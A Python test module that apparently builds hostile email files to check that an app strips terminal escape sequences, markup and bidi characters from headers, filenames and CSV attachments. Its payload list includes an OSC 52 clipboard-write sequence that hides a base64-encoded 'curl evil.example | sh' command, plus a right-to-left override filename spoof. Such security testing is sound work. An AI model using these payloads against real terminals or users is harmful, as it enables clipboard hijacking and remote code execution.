"""A sent message whose every text field carries escape sequences and markup, as an attacker
would write it: RFC 2047 encoded words for the Subject and display names, RFC 2231 for the
attachment's filename, a quoted local part, and a CSV whose cells become people's names."""

from __future__ import annotations

from email.header import Header
from pathlib import Path

from hypothesis import strategies as st

from tests.builders import Attached, build_message, csv_bytes, write_eml

# What a terminal acts on: OSC 0/2/52 ended by BEL and by ESC backslash, CSI, DCS, C1, bidi.
PAYLOADS = (
    "\x1b]0;pwned\x07",
    "\x1b]2;pwned\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b[2J\x1b[H",
    "\x1bP1$qm\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "\u202egnp.exe\u2066x\u2069\u200d",
)
MARKUP = "[EXT] [b]bold[/b] Alice [Home Person [link=x]"
# Bytes that must never reach a terminal: C0 but TAB/LF/CR, DEL, and C1 in UTF-8 (0xC2 0x80-9F)
# or, should anything write Latin-1, raw.
FORBIDDEN_CHARS = {chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))}
FORBIDDEN_CHARS |= {chr(c) for c in range(0x7F, 0xA0)}
FORBIDDEN_CHARS |= {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e"}
FORBIDDEN_CHARS |= {"\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200d"}

# Generated hostile text: pieces of escape sequences and of markup, mixed with any text.
ESCAPES = st.sampled_from(
    ["\x1b[", "\x1b]0;", "\x1b]2;", "\x1b]52;c;", "\x1bP", "\x1b\\", "\x07", "\x9b", "\x9d",
     "\x90", "\x9c", "\u202e", "\u2066", "\u200d", "\x7f", "\r", "\n", "[", "]", "[/", "[b]", "\\"]
)  # fmt: skip
HOSTILE_TEXT = st.lists(st.one_of(ESCAPES, st.text(max_size=3)), min_size=1, max_size=8).map(
    "".join
)


def raw_controls(text: str) -> list[str]:
    """The forbidden characters in `text`, as code points (empty when it is safe)."""
    return sorted({f"U+{ord(char):04X}" for char in text if char in FORBIDDEN_CHARS})


def encoded(text: str) -> str:
    """`text` as one RFC 2047 encoded word, as a mail client writes a non-ASCII header."""
    return Header(text, "utf-8").encode()


def hostile_message(folder: Path, payload: str, *, markup: str = MARKUP, name: str = "m") -> Path:
    """An .eml with `payload` and `markup` in every field a person or the app will see."""
    evil = f"{markup}{payload}"
    people = csv_bytes(
        ("Name", "Email", "Notes"),
        [
            (f"{evil} Resident {number}", f"resident{number}@homemail.example", evil)
            for number in range(3)
        ],
    )
    message = build_message(
        sender="Office <office@council.example>",
        subject=encoded(f"Survey {evil}"),
        body=f"Dear all,\n{evil}\nThanks",
        to=[f"{encoded(evil + ' Alice')} <alice@homemail.example>"],
        cc=[
            '"evil\\"' + payload.replace("\\", "\\\\").replace('"', '\\"') + '"@homemail.example',
            f"{encoded('[EXT] Bob' + payload)} <bob@webmail.example>",
        ],
        attachments=[Attached(f"{evil}.csv", "text/csv", people)],
        message_id="<hostile@council.example>",
    )
    part = message.get_payload()[1]
    part.replace_header("Content-Disposition", "attachment")  # RFC 2231, as Outlook writes it
    part.set_param("filename", ("utf-8", "", f"{evil}.csv"), header="Content-Disposition")
    return write_eml(message, folder / f"{name}.eml")
